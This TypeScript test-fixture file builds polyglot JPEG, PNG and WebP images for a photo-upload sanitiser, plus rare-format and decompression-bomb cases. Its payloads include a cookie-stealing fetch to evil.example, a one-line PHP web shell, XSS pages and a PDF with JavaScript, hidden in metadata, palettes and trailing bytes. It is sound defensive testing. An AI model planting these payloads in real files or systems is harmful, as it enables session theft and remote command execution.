import { maximumPhotoBytes } from '@bisita/contract/limits'
import { deflateSync } from 'node:zlib'
import sharp from 'sharp'
import { blackPng, chunk, picture, pixels, pngHeader, pngSignature, riff, segment, webpCanvas, webpChunk, withChunks, withSegments } from './images.ts'
import { type Sample, zipOf } from './notPhotos.ts'
import { photoOfSize } from './refusedPhotos.ts'

const html = Buffer.from('<!DOCTYPE html><html><body onload="alert(document.cookie)">stolen</body></html>')
const script = Buffer.from('*/=alert(document.cookie);fetch("https://evil.example/?"+document.cookie)/*')
const php = Buffer.from('<?php system($_GET["command"]); __halt_compiler(); ?>')
const zip = zipOf('evil.jar', Buffer.from('Main-Class: Evil, a program that somebody wants to be opened'))
const pdf = Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>\n%%EOF')

/** A photo with something in it that is no picture. */
type Carrier = readonly [name: string, bytes: Buffer, payload: Buffer]

/** Sound photos that are something else as well: they are taken, and nothing of the other thing is kept. */
export async function carriers(): Promise<readonly Carrier[]> {
  const jpeg = await picture().jpeg().toBuffer()
  const png = await picture().png().toBuffer()
  const webp = await picture().webp().toBuffer()
  const frame = webp.subarray(12)
  const xmp = Buffer.from('<x:xmpmeta xmlns:x="adobe:ns:meta/"><script>alert("from the description")</script></x:xmpmeta>')
  const thumbnail = await sharp(pixels(40, 30, 3), { raw: { width: 40, height: 30, channels: 3 } }).jpeg().toBuffer()
  // A script that begins with the signature as a name: the first segment's length reads as the beginning of a comment.
  const scripted = Buffer.concat([Buffer.from('\xff\xd8\xff\xfe\x2f\x2a', 'latin1'), script, Buffer.alloc(0x2f_2a - 2 - script.length), jpeg.subarray(2)])
  return [
    ['a JPEG and a ZIP behind it', Buffer.concat([jpeg, zip]), zip],
    ['a JPEG and a page behind it', Buffer.concat([jpeg, html]), html],
    ['a JPEG and another one behind it', Buffer.concat([jpeg, segment(0xe2, Buffer.from('MPF\0')), thumbnail]), thumbnail.subarray(-500)],
    ['a JPEG and a film behind it', Buffer.concat([jpeg, Buffer.from('\0\0\0\x18ftypmp42'), pixels(50, 50, 1)]), pixels(50, 50, 1)],
    ['a JPEG with noise in its scan', Buffer.concat([jpeg.subarray(0, -2000), Buffer.from([0xff, 0xff]), pixels(30, 30, 1)]), pixels(30, 30, 1)],
    ['a JPEG with a page for a comment', withSegments(jpeg, segment(0xfe, html)), html],
    ['a JPEG with a program for a comment', withSegments(jpeg, segment(0xfe, php)), php],
    ['a JPEG with a PDF for a comment', withSegments(jpeg, segment(0xfe, pdf)), pdf],
    ['a JPEG with a ZIP in a segment of an application', withSegments(jpeg, segment(0xeb, zip)), zip],
    ['a JPEG with a page in its description', withSegments(jpeg, segment(0xe1, Buffer.concat([Buffer.from('http://ns.adobe.com/xap/1.0/\0'), xmp]))), xmp],
    ['a JPEG with a page in its colour profile', withSegments(jpeg, segment(0xe2, Buffer.concat([Buffer.from('ICC_PROFILE\0\x01\x01'), html]))), html],
    ['a JPEG that is a script', scripted, script],
    ['a JPEG with a program among its data of the camera', await picture().jpeg().withExif({ IFD0: { ImageDescription: php.toString() } }).toBuffer(), php],
    ['a PNG and a ZIP behind it', Buffer.concat([png, zip]), zip],
    ['a PNG and a page behind it', Buffer.concat([png, html]), html],
    ['a PNG with a script in a text', withChunks(png, chunk('tEXt', Buffer.concat([Buffer.from('Comment\0'), script]))), script],
    ['a PNG with a page in a packed text', withChunks(png, chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(html)]))), deflateSync(html)],
    ['a PNG with a program in a chunk of its own', withChunks(png, chunk('teSt', php)), php],
    ['a PNG with a program in its palette', await palette(), php],
    ['a PNG with a page behind its data', unpacked(100, 100, Buffer.concat([Buffer.alloc(101 * 100), html])), html],
    ['a PNG with pixels that spell a page', unpacked(128, 64, spelled), html],
    ['a WebP and a page behind it', Buffer.concat([webp, html]), html],
    ['a WebP with a page in its description', riff(webpCanvas(120, 90, 0x04), frame, webpChunk('XMP ', xmp)), xmp],
    ['a WebP with a program among its data of the camera', riff(webpCanvas(120, 90, 0x08), frame, webpChunk('EXIF', php)), php],
    ['a WebP with a ZIP in a chunk of its own', riff(webpCanvas(120, 90), frame, webpChunk('ZIP ', zip)), zip],
  ]
}

/** Colours whose values are the letters of a program. */
async function palette(): Promise<Buffer> {
  const png = blackPng(16, 16)
  const header = Buffer.from(png.subarray(0, 33))
  const colours = Buffer.concat([php, Buffer.alloc(3 - (php.length % 3))])
  header.writeUInt8(3, 25)
  return Buffer.concat([header.subarray(0, 8), chunk('IHDR', header.subarray(16, 29)), chunk('PLTE', colours), png.subarray(33)])
}

/** Grey values that are the letters of a page: 64 lines of 128. */
const spelled = Buffer.concat(Array<Buffer>(64).fill(Buffer.concat([Buffer.from([0]), html, Buffer.alloc(128 - html.length)])))

/** A PNG whose data stand in it as they are. */
const unpacked = (width: number, height: number, raw: Buffer): Buffer =>
  Buffer.concat([pngSignature, pngHeader(width, height), chunk('IDAT', deflateSync(raw, { level: 0 })), chunk('IEND', Buffer.alloc(0))])

/** Photos of kinds that are rare, or of the very largest size that is taken. */
export async function rarePhotos(): Promise<readonly Sample[]> {
  const frames = { raw: { width: 60, height: 180, channels: 3, pageHeight: 60 } } as const
  const still = await picture().png().toBuffer()
  const control = Buffer.alloc(26)
  control.writeUInt32BE(120, 4)
  control.writeUInt32BE(90, 8)
  const animated = withChunks(still, chunk('acTL', Buffer.from([0, 0, 0, 2, 0, 0, 0, 0])), chunk('fcTL', control))
  const deep = new Uint16Array(120 * 90 * 3).map((_, index) => (index * 7919) % 65_536)
  return [
    ['exactly 5 MB', photoOfSize(await picture().jpeg().toBuffer(), maximumPhotoBytes)],
    ['exactly 40 megapixels', blackPng(8000, 5000)],
    ['a text that unpacks to 400 MB', blackPng(50, 50, [chunk('zTXt', Buffer.concat([Buffer.from('Comment\0\0'), deflateSync(Buffer.alloc(400_000_000))]))])],
    ['data that unpack to 400 MB for 50 pixels', blackPng(50, 50, [], Buffer.alloc(400_000_000))],
    ['a colour profile that unpacks to 400 MB', blackPng(50, 50, [chunk('iCCP', Buffer.concat([Buffer.from('icc\0\0'), deflateSync(Buffer.alloc(400_000_000))]))])],
    ['one pixel', await picture(1, 1).jpeg().toBuffer()],
    ['a JPEG for print', await picture().toColourspace('cmyk').jpeg().toBuffer()],
    ['a grey JPEG', await picture().greyscale().jpeg().toBuffer()],
    ['a JPEG in steps', await picture().jpeg({ progressive: true }).toBuffer()],
    ['a JPEG of other colours', await picture().jpeg().withIccProfile('p3').toBuffer()],
    ['a PNG with deep colours', await sharp(deep, { raw: { width: 120, height: 90, channels: 3 } }).toColourspace('rgb16').png().toBuffer()],
    ['a PNG with a palette', await picture().png({ palette: true }).toBuffer()],
    ['a PNG in steps', await picture().png({ progressive: true }).toBuffer()],
    ['a PNG that is seen through', await picture(120, 90, 4).png().toBuffer()],
    ['a PNG that moves', animated],
    ['a WebP without loss', await picture().webp({ lossless: true }).toBuffer()],
    ['a WebP that is seen through', await picture(120, 90, 4).webp().toBuffer()],
    ['a WebP that moves', await sharp(pixels(60, 180, 3), frames).webp({ loop: 0 }).toBuffer()],
  ]
}
